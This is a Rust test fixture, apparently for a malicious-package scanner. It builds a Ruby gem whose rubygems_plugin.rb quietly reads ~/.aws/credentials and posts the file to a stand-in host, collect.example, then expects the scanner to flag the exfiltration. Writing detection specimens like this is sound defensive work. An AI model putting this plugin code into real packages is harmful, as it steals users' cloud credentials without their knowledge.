//! A gem with a `rubygems_plugin.rb` that sends cloud credentials. Nothing of it runs while it is installed.
//!
//! Must be found: at the next gem command, whichever it is.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const PLUGIN: &str = r"require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/plugin'), File.read(File.expand_path('~/.aws/credentials')))
rescue StandardError
  nil
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("gem_colors", "1.0.1")
        .file("lib/rubygems_plugin.rb", PLUGIN)
        .file("lib/gem_colors.rb", "module GemColors\nend\n");
    package
        .specimen("gem-plugin", Expect::malicious(&["canary-exfiltrated"]))
        .telling("in its rubygems_plugin.rb")
}
